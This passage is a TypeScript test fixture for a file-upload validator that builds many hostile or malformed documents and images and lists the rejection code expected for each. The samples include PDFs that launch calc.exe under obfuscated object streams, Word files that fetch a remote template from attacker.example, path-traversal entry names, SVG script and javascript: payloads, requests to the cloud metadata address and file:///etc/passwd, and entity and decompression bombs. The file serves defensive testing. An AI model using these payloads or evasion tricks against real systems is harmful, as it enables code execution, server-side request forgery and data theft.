import { constants, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { makeCompoundFile, wordBeginning } from './make-compound-file.ts';
import { makePdf, stream, writePdf } from './make-pdf.ts';
import { makeDocx, makeZip } from './make-zip.ts';

interface NastyFile {
  bytes: () => Buffer | Promise<Buffer>;
  expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
}

const MEGABYTE = 1024 * 1024;
const text = (content: string) => () => Buffer.from(content);
const svg = (content: string, attributes = '') =>
  text(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${content}</svg>`,
  );
const picture = (width = 60, height = 40) =>
  sharp({ create: { width, height, channels: 3, background: { r: 200, g: 90, b: 30 } } });
async function half(format: 'png' | 'jpeg' | 'webp'): Promise<Buffer> {
  const noisy = sharp({
    create: {
      width: 300,
      height: 300,
      channels: 3,
      background: 'white',
      noise: { type: 'gaussian', mean: 128, sigma: 50 },
    },
  });
  const bytes = await noisy.toFormat(format).toBuffer();
  return bytes.subarray(0, bytes.length / 2);
}
async function pngOfSize(width: number, height: number): Promise<Buffer> {
  const bytes = await picture().png().toBuffer();
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  return bytes;
}
async function movingPng(): Promise<Buffer> {
  const bytes = await picture().png().toBuffer();
  const control = Buffer.alloc(20);
  control.writeUInt32BE(8, 0);
  control.write('acTL', 4, 'latin1');
  control.writeUInt32BE(2, 8);
  return Buffer.concat([bytes.subarray(0, 33), control, bytes.subarray(33)]);
}
async function movingWebp(): Promise<Buffer> {
  const frames = await Promise.all([picture(20, 20).png().toBuffer(), picture(20, 20).negate().png().toBuffer()]);
  return sharp(frames, { join: { animated: true } })
    .webp()
    .toBuffer();
}
const zeros = (megabytes: number) => Buffer.alloc(megabytes * MEGABYTE);
const relationship = (type: string, target: string) =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
const related = (attributes: string) => () =>
  relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
const LAUNCH = '<< /S /Launch /F (calc.exe) >>';
const objectList = (content: string) =>
  stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(`20000 0 ${content}`));
const launching =
  (dictionary: string, pack: (content: Buffer) => Buffer = deflateSync, before = '') =>
  () => {
    const list = stream(`/N 1 /First 8 ${dictionary}`, pack(Buffer.from(`20000 0 ${LAUNCH}`)));
    return makePdf({ objects: [Buffer.concat([Buffer.from(before), list])] });
  };
const inHexadecimal = (content: Buffer) => Buffer.from(`${content.toString('hex')}>`);
function inLines(content: Buffer): Buffer {
  const lines = Array.from({ length: Math.ceil(content.length / 4) }, (_, line) => [
    2,
    ...[0, 1, 2, 3].map((n) => (content[line * 4 + n] ?? 32) - (content[line * 4 + n - 4] ?? 0)),
  ]);
  return deflateSync(Buffer.from(lines.flat()));
}
function withEarlyEnd(content: Buffer): Buffer {
  const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
  const length = Buffer.alloc(4);
  length.writeUInt16LE(plain.length, 0);
  length.writeUInt16LE(0xffff - plain.length, 2);
  const rest = content.subarray(8);
  const checksum = deflateSync(Buffer.concat([plain, rest])).subarray(-4);
  return Buffer.concat([Buffer.from('\x78\x01\0', 'latin1'), length, plain, deflateRawSync(rest), checksum]);
}

export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
  'nothing at all': { bytes: text(''), expected: 'FILE_EMPTY' },
  'one byte': { bytes: text('%'), expected: 'FILE_TYPE' },
  'plain words': { bytes: text('Dear printer, please print this.'), expected: 'FILE_TYPE' },
  'a web page that is called .doc': { bytes: text('<html><body>Dear printer</body></html>'), expected: 'FILE_TYPE' },
  'a program': { bytes: () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), expected: 'FILE_TYPE' },
  'a picture': { bytes: () => picture().png().toBuffer(), expected: 'FILE_TYPE' },
  'random bytes': { bytes: () => Buffer.from('9f3a66c1d2e8b7a5'.repeat(60), 'hex'), expected: 'FILE_TYPE' },

  'a good PDF': { bytes: () => makePdf({ pages: 3 }), expected: { type: 'pdf', pages: 3 } },
  'a PDF with a password': {
    bytes: () =>
      makePdf({
        objects: ['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>'],
        trailer: '/Encrypt 10000 0 R',
      }),
    expected: 'FILE_PROTECTED',
  },
  'a PDF whose password is written in another way': {
    bytes: () => makePdf({ trailer: '/#45ncrypt << /Filter /Standard /V 1 /R 2 >>' }),
    expected: 'FILE_PROTECTED',
  },
  'a PDF of 5,000 pages': { bytes: () => makePdf({ pages: 5_000 }), expected: 'FILE_TOO_MANY_PAGES' },
  'a PDF without pages': { bytes: () => makePdf({ pages: 0 }), expected: 'FILE_NO_PAGES' },
  'a PDF whose table of objects leads to itself': {
    bytes: () =>
      Buffer.from(
        makePdf()
          .toString('latin1')
          .replace(/<< \/Size/, '<< /Prev 9 /Prev 600 /Size'),
        'latin1',
      ),
    expected: { type: 'pdf', pages: 1 },
  },
  'a PDF whose pages hold each other': {
    bytes: () =>
      writePdf([
        [1, '<< /Type /Catalog /Pages 2 0 R >>'],
        [2, '<< /Type /Pages /Count 3 /Kids [3 0 R] >>'],
        [3, '<< /Type /Pages /Count 3 /Parent 2 0 R /Kids [2 0 R] >>'],
      ]),
    expected: 'FILE_UNREADABLE',
  },
  'a PDF that is only its beginning': { bytes: () => makePdf().subarray(0, 60), expected: 'FILE_UNREADABLE' },
  'a PDF with pages of a kilometre': {
    bytes: () => makePdf({ mediaBox: '[0 0 2834646 2834646]' }),
    expected: 'FILE_PAGE_SIZE',
  },
  'a PDF with pages of a size that is no number': {
    bytes: () => makePdf({ mediaBox: `[0 0 1${'0'.repeat(60)} 595]` }),
    expected: { type: 'pdf', pages: 1 },
  },
  'a PDF with pages of no size': {
    bytes: () => makePdf({ mediaBox: '[0 0 0 0]' }),
    expected: { type: 'pdf', pages: 1 },
  },
  'a PDF that starts a program': {
    bytes: () => makePdf({ catalogue: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program under another spelling': {
    bytes: () => makePdf({ catalogue: '/OpenAction << /S /L#61un#63h /F (calc.exe) >>' }),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a packed list': {
    bytes: () => makePdf({ objects: [objectList(LAUNCH)] }),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a packed list with a long dictionary': {
    bytes: launching(`/Type /ObjStm /Filter /FlateDecode ${' '.repeat(5_000)}`),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that is packed twice': {
    bytes: launching('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', (content) =>
      inHexadecimal(deflateSync(content)),
    ),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list in hexadecimal': {
    bytes: launching('/Type /ObjStm /Filter /ASCIIHexDecode', inHexadecimal),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that is packed in lines': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', inLines),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that says elsewhere how it is packed': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode /DecodeParms [20001 0 R]', inLines),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that says twice how it is packed': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode /Filter /ASCIIHexDecode', inHexadecimal),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list under another spelling': {
    bytes: launching('/Type /Obj#53tm /Filter /FlateDecode'),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list packed under another spelling': {
    bytes: launching('/Type /ObjStm /#46ilter /Flate#44ecode'),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that does not say what it is': {
    bytes: launching('/Filter /FlateDecode'),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that seems to end early': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode', withEarlyEnd),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list with a remark that looks like another object': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode % 7 0 obj << >> stream\n'),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list with words that look like another object': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode /Note (endstream endobj 7 0 obj << >>\nstream\n)'),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list behind a remark': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode', deflateSync, '% 7 0 obj ( <<\n'),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that does not begin on a line of its own': {
    bytes: () =>
      Buffer.from(
        launching('/Type /ObjStm /Filter /FlateDecode')().toString('latin1').replaceAll('stream\nx', 'stream\rx'),
        'latin1',
      ),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that starts a program from a list that is broken behind that': {
    bytes: launching('/Type /ObjStm /Filter /FlateDecode', (content) =>
      Buffer.concat([deflateSync(content, { finishFlush: constants.Z_SYNC_FLUSH }), Buffer.alloc(40, 0xff)]),
    ),
    expected: 'FILE_ACTIVE',
  },
  'a PDF with a list that is in another file': {
    bytes: launching('/Type /ObjStm /F (//attacker.example/list)'),
    expected: 'FILE_EXTERNAL',
  },
  'a PDF with a page that is in another file': {
    bytes: () =>
      makePdf({ objects: [stream('/#46 << /FS /URL /F (https://attacker.example/page) >>', Buffer.alloc(0))] }),
    expected: 'FILE_EXTERNAL',
  },
  'a PDF with a list that unfolds to 200 MB': {
    bytes: () =>
      makePdf({ objects: [stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(zeros(200)))] }),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a PDF of dictionaries that never end': {
    bytes: () => makePdf({ objects: ['obj<<('.repeat(MEGABYTE)] }),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a PDF of remarks that never end': {
    bytes: () => makePdf({ objects: ['/XFA%'.repeat(MEGABYTE)] }),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a PDF with packed lists as good programs write them': {
    bytes: () =>
      makePdf({
        objects: [
          stream('\n/Type /ObjStm\n/N 1\n/First 8\n/Filter /FlateDecode\n', deflateSync('20000 0 << /A 1 >>')),
          stream('/Extends 10000 0 R/Filter[/FlateDecode]/First 8/N 1/Type/ObjStm', deflateSync('20001 0 (/A)')),
          stream('/Type /ObjStm /N 1 /First 8 /DecodeParms null', Buffer.from('20002 0 [ /A ]')),
          '<< /Type /Outlines /First 20000 0 R /Last 20000 0 R /Title (\\( a stream\n) % obj <<\n >>',
          stream('/Type /XObject /Resources << /Font << /F 20000 0 R /First 20000 0 R >> >>', Buffer.from('q Q')),
          stream('/N 3 /Alternate /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('GhQ~>')),
        ],
      }),
    expected: { type: 'pdf', pages: 1 },
  },
  'a PDF with a password behind a remark': {
    bytes: () => makePdf({ trailer: '/Encrypt%\n\0<< /Filter /Standard /V 1 /R 2 >>' }),
    expected: 'FILE_PROTECTED',
  },
  'a PDF that starts a program whose name ends in a remark': {
    bytes: () => makePdf({ catalogue: '/OpenAction << /S /Launch%\n/F (calc.exe) >>' }),
    expected: 'FILE_ACTIVE',
  },
  'a PDF with a file in it that does not say what it is': {
    bytes: () =>
      makePdf({ objects: ['<< /Type /Filespec /EF % here\n << /F 10001 0 R >> >>', stream('', Buffer.from('MZ'))] }),
    expected: 'FILE_ACTIVE',
  },
  'a PDF with a file in it': {
    bytes: () => makePdf({ objects: [stream('/Type /EmbeddedFile', Buffer.from('MZ'))] }),
    expected: 'FILE_ACTIVE',
  },
  'a PDF that is another kind of form': {
    bytes: () => makePdf({ catalogue: '/AcroForm << /XFA 10000 0 R >>', objects: ['(form)'] }),
    expected: 'FILE_ACTIVE',
  },
  'a PDF with JavaScript that nobody runs': {
    bytes: () => makePdf({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    expected: { type: 'pdf', pages: 1 },
  },
  'a PDF that is a web page, too': {
    bytes: () => Buffer.concat([makePdf(), Buffer.from('<script>alert(1)</script>')]),
    expected: { type: 'pdf', pages: 1 },
  },
  'a web page that is a PDF, too': {
    bytes: () => Buffer.concat([Buffer.from('<script>alert(1)</script>'), makePdf()]),
    expected: 'FILE_TYPE',
  },
  'a PDF whose page unfolds to 60 MB': {
    bytes: () => makePdf({ content: deflateSync(zeros(60), { level: 1 }) }),
    expected: { type: 'pdf', pages: 1 },
  },

  'a good DOCX that is called .pdf': { bytes: () => makeDocx(), expected: { type: 'docx' } },
  'a DOCX that unfolds to 60 MB': {
    bytes: () => makeDocx([{ name: 'word/document.xml', content: zeros(60) }]),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a DOCX that lies about its size': {
    bytes: () => makeDocx([{ name: 'word/document.xml', content: zeros(30), claimedSize: 100 }]),
    expected: 'FILE_UNREADABLE',
  },
  'a DOCX of 5,000 parts': {
    bytes: () => makeDocx(Array.from({ length: 5_000 }, (_, n) => ({ name: `word/${n}.xml`, content: 'x' }))),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a DOCX that leads out of its folder': {
    bytes: () => makeDocx([{ name: '../../../etc/cron.d/print', content: 'x' }]),
    expected: 'FILE_UNREADABLE',
  },
  'a DOCX with a name from the root': {
    bytes: () => makeDocx([{ name: '/etc/passwd', content: 'x' }]),
    expected: 'FILE_UNREADABLE',
  },
  'a DOCX with macros': {
    bytes: () => makeDocx([{ name: 'word/vbaProject.bin', content: 'x' }]),
    expected: 'FILE_MACROS',
  },
  'a DOCM that is called .docx': {
    bytes: () =>
      makeDocx([
        {
          name: '[Content_Types].xml',
          content: '<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        },
      ]),
    expected: 'FILE_MACROS',
  },
  'a DOCX that fetches its template': {
    bytes: () =>
      makeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: relationship('attachedTemplate', 'https://attacker.example/t.dotm'),
        },
      ]),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template, in single quotes': {
    bytes: related(FETCHED.replaceAll('"', "'")),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template, with room around the equals sign': {
    bytes: related(FETCHED.replaceAll('=', '\n = ')),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template, with a letter as a number': {
    bytes: related(FETCHED.replace('https', '&#104;ttps').replace('External', '&#x45;xternal')),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template under a prefix': {
    bytes: () =>
      relatedBy(
        `<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="r" ${FETCHED}/></p:Relationships>`,
      ),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template in UTF-16': {
    bytes: () =>
      relatedBy(Buffer.from(`\ufeff<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'utf16le')),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template in UTF-16, the other way round': {
    bytes: () =>
      relatedBy(
        Buffer.from(`\ufeff<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'utf16le').swap16(),
      ),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template in an alphabet that is only declared': {
    bytes: () =>
      relatedBy(
        `<?xml version="1.0" encoding="UTF-7"?><Relationships>+ADw-Relationship Id="r" ${FETCHED}/+AD4-</Relationships>`,
      ),
    expected: 'FILE_UNREADABLE',
  },
  'a DOCX that fetches its template behind a long comment': {
    bytes: () =>
      relatedBy(`<Relationships><!--${' '.repeat(4 * MEGABYTE)}--><Relationship Id="r" ${FETCHED}/></Relationships>`),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a DOCX that fetches its template out of a part in capitals': {
    bytes: () =>
      relatedBy(`<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'word/_RELS/settings.xml.RELS'),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template out of a part with a letter as a number': {
    bytes: () =>
      relatedBy(`<Relationships><Relationship Id="r" ${FETCHED}/></Relationships>`, 'word/_rels/settings.xml.rel%73'),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX that fetches its template out of a part in two pieces': {
    bytes: () =>
      makeDocx([
        { name: 'word/_rels/settings.xml.rels/[0].piece', content: '<Relationships><Relationship Id="r" ' },
        { name: 'word/_rels/settings.xml.rels/[1].last.piece', content: `${FETCHED}/></Relationships>` },
      ]),
    expected: 'FILE_UNREADABLE',
  },
  'a DOCX that defines a word and fetches its template by that': {
    bytes: () =>
      relatedBy(
        `<!DOCTYPE r [<!ENTITY e "External">]><Relationships><Relationship Id="r" ${FETCHED.replace('"External"', '"&e;"')}/></Relationships>`,
      ),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a DOCX with a picture from a folder in the net': {
    bytes: related(
      `Type="${MEANINGS}/image" Target="file:///\\\\attacker.example\\share\\a.png" TargetMode="External"`,
    ),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX with a picture from elsewhere that says it is inside': {
    bytes: related(`Type="${MEANINGS}/image" Target="\\\\attacker.example\\share\\a.png"`),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX with a template from a folder in the net that looks like a disk': {
    bytes: related(`Type="${MEANINGS}/attachedTemplate" Target="file://C:/share/t.dotm" TargetMode="External"`),
    expected: 'FILE_EXTERNAL',
  },
  'a DOCX whose relationships are no XML': {
    bytes: () => relatedBy('<Relationships><Relationship></Relationships>'),
    expected: 'FILE_UNREADABLE',
  },
  'a DOCX with links that a reader may follow': {
    bytes: () =>
      makeDocx([
        {
          name: 'word/_rels/document.xml.rels',
          content: `\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${MEANINGS}/styles" Target="styles.xml"/><Relationship Id="rId2" Type="${MEANINGS}/hyperlink" Target="https://kaagazz.example/?a=1&amp;b=2" TargetMode="External"/><Relationship Id="rId3" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink" Target="mailto:asha@kaagazz.example" TargetMode="External"/><Relationship Id="rId4" Type="${MEANINGS}/image" Target="../media/a.png" TargetMode="Internal"/></Relationships>`,
        },
      ]),
    expected: { type: 'docx' },
  },
  'a DOCM whose macros have another name': {
    bytes: () =>
      relatedBy(
        '<Relationships><Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="styles.bin"/></Relationships>',
        'word/_rels/document.xml.rels',
      ),
    expected: 'FILE_MACROS',
  },
  'a DOCM that spells its type in numbers': {
    bytes: () =>
      makeDocx([
        {
          name: '[content_types].XML',
          content:
            '<Types><Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>',
        },
      ]),
    expected: 'FILE_MACROS',
  },
  'a DOCX whose template was on its writer’s disk': {
    bytes: () =>
      makeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: relationship('attachedTemplate', 'file:///C:/Letters/Letter.dotx'),
        },
      ]),
    expected: { type: 'docx' },
  },
  'a DOCX with an archive in it, which is left closed': {
    bytes: () =>
      makeDocx([{ name: 'word/embeddings/sheet.xlsx', content: makeZip([{ name: 'a', content: zeros(1) }]) }]),
    expected: { type: 'docx' },
  },
  'archives within archives': {
    bytes: () =>
      makeZip([
        { name: 'a.zip', content: makeZip([{ name: 'b.zip', content: makeZip([{ name: 'c', content: zeros(1) }]) }]) },
      ]),
    expected: 'FILE_TYPE',
  },
  'an archive that ends in the middle': { bytes: () => makeDocx().subarray(0, 300), expected: 'FILE_UNREADABLE' },

  'a good DOC': { bytes: () => makeCompoundFile({ WordDocument: wordBeginning() }), expected: { type: 'doc' } },
  'a DOC with macros': {
    bytes: () =>
      makeCompoundFile({ WordDocument: wordBeginning(), Macros: Buffer.alloc(0), _VBA_PROJECT: Buffer.alloc(9) }),
    expected: 'FILE_MACROS',
  },
  'a DOC with a password': {
    bytes: () => makeCompoundFile({ WordDocument: wordBeginning(0x0100) }),
    expected: 'FILE_PROTECTED',
  },
  'a DOCX with a password': {
    bytes: () => makeCompoundFile({ EncryptionInfo: Buffer.alloc(9), EncryptedPackage: Buffer.alloc(9) }),
    expected: 'FILE_PROTECTED',
  },
  'a table that is called .doc': {
    bytes: () => makeCompoundFile({ Workbook: Buffer.alloc(9) }),
    expected: 'FILE_TYPE',
  },
  'a DOC whose directory is a circle': {
    bytes: () => makeCompoundFile({ WordDocument: wordBeginning() }, 1),
    expected: 'FILE_UNREADABLE',
  },
  'a DOC that ends in the middle': {
    bytes: () => makeCompoundFile({ WordDocument: wordBeginning() }).subarray(0, 700),
    expected: 'FILE_UNREADABLE',
  },
};

export const NASTY_PICTURES: Readonly<Record<string, NastyFile>> = {
  'a PNG of 3,600 million pixels': { bytes: () => pngOfSize(60_000, 60_000), expected: 'FILE_TOO_COMPLEX' },
  'a PNG without pixels': { bytes: () => pngOfSize(0, 0), expected: 'FILE_UNREADABLE' },
  'a PNG that ends in the middle': { bytes: () => half('png'), expected: 'FILE_UNREADABLE' },
  'a JPG that ends in the middle': { bytes: () => half('jpeg'), expected: 'FILE_UNREADABLE' },
  'a WebP that ends in the middle': { bytes: () => half('webp'), expected: 'FILE_UNREADABLE' },
  'a PNG that moves': { bytes: movingPng, expected: 'FILE_ANIMATED' },
  'a WebP that moves': { bytes: movingWebp, expected: 'FILE_ANIMATED' },
  'a GIF that is a program, too': {
    bytes: async () =>
      Buffer.concat([await picture().gif().toBuffer(), makeZip([{ name: 'Evil.class', content: 'x' }])]),
    expected: 'FILE_TYPE',
  },
  'a JPG with an archive behind it': {
    bytes: async () =>
      Buffer.concat([await picture().jpeg().toBuffer(), makeZip([{ name: 'Evil.class', content: 'x' }])]),
    expected: { type: 'jpg', pixels: { width: 60, height: 40 } },
  },
  'a JPG for the press, in four inks': {
    bytes: () => picture().toColourspace('cmyk').jpeg().toBuffer(),
    expected: { type: 'jpg', pixels: { width: 60, height: 40 } },
  },
  'a JPG of a camera that lay on its side': {
    bytes: () => picture().withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    expected: { type: 'jpg', pixels: { width: 40, height: 60 } },
  },
  'a TIFF': { bytes: () => picture().tiff().toBuffer(), expected: 'FILE_TYPE' },

  'a good drawing': { bytes: svg('<rect width="9" height="9"/>'), expected: { type: 'svg' } },
  'a drawing with a script': { bytes: svg('<script>alert(1)</script>'), expected: 'FILE_ACTIVE' },
  'a drawing with a script of another prefix': {
    bytes: svg('<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>'),
    expected: 'FILE_ACTIVE',
  },
  'a drawing that does something when it is loaded': { bytes: svg('', 'onload="alert(1)"'), expected: 'FILE_ACTIVE' },
  'a drawing with a web page in it': {
    bytes: svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    expected: 'FILE_ACTIVE',
  },
  'a drawing with a link that runs': {
    bytes: svg('<a xlink:href="java&#115;cript:alert(1)"/>'),
    expected: 'FILE_ACTIVE',
  },
  'a drawing that writes a link later': {
    bytes: svg('<a><set attributeName="xlink:href" to="x"/></a>'),
    expected: 'FILE_ACTIVE',
  },
  'a drawing that fetches a picture': {
    bytes: svg('<image href="http://169.254.169.254/latest/meta-data/"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that reads a file': { bytes: svg('<image xlink:href="file:///etc/passwd"/>'), expected: 'FILE_EXTERNAL' },
  'a drawing in a drawing': {
    bytes: svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches a style sheet': {
    bytes: svg('<style>@import "https://attacker.example/a.css";</style>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that hides what it fetches': {
    bytes: svg('<rect style="fill:u\\72l(https://attacker.example/a)"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches its paint': {
    bytes: svg('<rect fill="url(//attacker.example/a)"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches its mask in capitals': {
    bytes: svg('<rect mask="URL(https://attacker.example/a)"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches its mask in escapes': {
    bytes: svg('<rect mask="u\\72l(https://attacker.example/a)"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches its filter in escapes with room': {
    bytes: svg('<rect filter="\\000055\nR\\L (https://attacker.example/a)"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches the arrow of its reader': {
    bytes: svg('<rect cursor="Url( \'https://attacker.example/a\' ), auto"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches one of several pictures': {
    bytes: svg('<rect cursor="-webkit-image-set(\'https://attacker.example/a\' 1x), auto"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches a picture by its newest name': {
    bytes: svg('<rect style="fill: Src(\'https://attacker.example/a\')"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches a picture later': {
    bytes: svg('<rect><set attributeName="fill" to="\\75rl(https://attacker.example/a)"/></rect>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches a style sheet out of an attribute': {
    bytes: svg('<rect style="@IMPORT \'https://attacker.example/a.css\'"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches something between words that look like a remark': {
    bytes: svg(`<rect style="a:'/*'; fill:url(https://attacker.example/a); b:'*/'"/>`),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches a style sheet around another one': {
    bytes: svg('<style>@import "https://attacker.example/a.css";<style/></style>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing that fetches a style sheet with something in the middle': {
    bytes: svg('<style>@imp<g>x</g>ort "https://attacker.example/a.css";</style>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing whose own names lead elsewhere': {
    bytes: svg('<rect fill="url(#a)"/>', 'xml:base="https://attacker.example/"'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing with a picture of a web page': {
    bytes: svg('<h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="https://attacker.example/a 1x"/>'),
    expected: 'FILE_ACTIVE',
  },
  'a drawing that is another one in the alphabet that it declares': {
    bytes: text(
      '<?xml version="1.0" encoding="Shift_JIS"?><svg xmlns="http://www.w3.org/2000/svg"><desc><![CDATA[é]]><!-- ]]><script>alert(1)</script> --></desc></svg>',
    ),
    expected: 'FILE_UNREADABLE',
  },
  'a drawing as good programs write it': {
    bytes: text(
      `<?xml version="1.0" encoding="iso-8859-1" standalone="no"?>
<!-- Generator: Adobe Illustrator -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 9 9" xml:space="preserve" inkscape:export-filename="C:\\Users\\asha\\card.png" aria-label="image (1), src (2)">
<style type="text/css"><![CDATA[ /* of the card */ .st0{fill:URL("#a");filter:url('#b')} @font-face{font-family:A;src:local("Arial")} ]]></style>
<defs><linearGradient id="a"><stop stop-color="red"/></linearGradient><filter id="b"><feOffset/></filter><font><glyph unicode="\\" data-name="a\\b"/></font></defs>
<rect class="st0" width="9" height="9" fill="Url( #a )" style="-inkscape-font-specification:'Arial, Bold';mask:url(&quot;#c&quot;)"/><use xlink:href="#a"/>
</svg>`,
    ),
    expected: { type: 'svg' },
  },
  'a drawing with a style sheet from elsewhere': {
    bytes: text('<?xml-stylesheet href="https://attacker.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
    expected: 'FILE_EXTERNAL',
  },
  'a drawing with words that grow a billionfold': {
    bytes: text(
      '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    ),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a drawing of the size of a country': {
    bytes: svg('', 'width="9000000" height="9000000"'),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a drawing of 10,000 drawers': {
    bytes: svg('<g>'.repeat(10_000) + '</g>'.repeat(10_000)),
    expected: 'FILE_TOO_COMPLEX',
  },
  'a drawing that does not end': {
    bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><g>'),
    expected: 'FILE_UNREADABLE',
  },
  'a drawing of another alphabet’s bytes': {
    bytes: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg">\xff\xfe</svg>', 'latin1'),
    expected: 'FILE_UNREADABLE',
  },
  'a packed drawing': { bytes: () => gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>'), expected: 'FILE_TYPE' },
